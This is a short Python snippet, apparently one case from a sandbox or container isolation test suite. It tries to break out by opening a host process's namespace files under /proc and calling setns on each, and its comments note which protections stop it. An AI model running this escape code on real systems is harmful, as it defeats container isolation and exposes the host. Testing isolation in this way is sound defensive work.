# Enters the namespaces of a process of the host, by their files.
# group: namespaces
# held: seccomp pid_namespace proc
# outside: needs root
def attack(lure):
    def enter():
        for name in ("net", "mnt", "pid", "uts", "ipc"):
            fd = os.open(f"/proc/{lure['pid']}/ns/{name}", os.O_RDONLY)
            call("setns", fd, 0)
        return "entered the namespaces of a process of the host"
    return aside(enter)
